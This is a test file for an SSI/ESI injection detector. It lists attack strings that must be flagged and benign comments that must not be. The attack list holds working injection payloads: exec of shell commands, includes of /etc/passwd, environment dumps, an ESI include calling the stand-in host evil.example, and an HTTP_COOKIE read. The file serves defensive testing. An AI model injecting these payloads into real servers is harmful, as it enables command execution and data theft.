import { detectSsi } from "../../../../assembly/core/match/ssi";
import { detects } from "./detector-rows";

const ATTACKS: string[] = [
  '<!--#exec cmd="id" -->',
  '<!--#exec cgi="/cgi-bin/x" -->',
  '<!--#include virtual="/etc/passwd" -->',
  '<!--#include file="secret.txt"-->',
  '<!-- #include virtual="/x" -->',
  '<!--# include file="x" -->',
  '<!--#echo var="DOCUMENT_ROOT" -->',
  "<!--#printenv -->",
  '<!--#config timefmt="%A" -->',
  '<!--#set var="x" value="y" -->',
  '<!--#if expr="$x" -->',
  '<!--#fsize file="x" -->',
  '<!--#flastmod virtual="x" -->',
  'text <!--#EXEC cmd="ls"-->',
  '"><!--#exec cmd="ls"-->',
  '<esi:include src="http://evil.example/x" />',
  "<esi:vars>$(HTTP_COOKIE)</esi:vars>",
  '<esi:inline name="/x" fetchable="yes">',
  "<ESI:remove>",
  "x<esi:debug/>",
  "<!--esi <esi:include src=x> -->",
  '<%@ include file="x.jsp" %>',
  '<%@include file="x.jsp"%>',
];

const BENIGN: string[] = [
  "<!-- a comment -->",
  "<!-- # heading -->",
  "<!--#region Types -->",
  "<!--#endregion-->",
  "<!-- #1 in the list -->",
  "<!--[if IE]><p>x</p><![endif]-->",
  "<!--more-->",
  "<!--",
  "<!--#",
  "<!-- if you include this -->",
  "<!-- include the header -->",
  "<!-- esi is a protocol -->",
  "<esi>",
  "<esi:unknown>",
  "<esign:include>",
  'exec cmd="id"',
  "#include <stdio.h>",
  "<%= name %>",
  '<%@ page language="java" %>',
  "<%# comment %>",
  "a < b # include",
];

describe("core/match/ssi detectSsi", () => {
  test("includes of servers and edges", () => {
    for (let i = 0; i < ATTACKS.length; i++) expect(detects(ATTACKS[i], detectSsi)).toBe(true, ATTACKS[i]);
  });
  test("comments and elements that are none", () => {
    for (let i = 0; i < BENIGN.length; i++) expect(detects(BENIGN[i], detectSsi)).toBe(false, BENIGN[i]);
  });
});
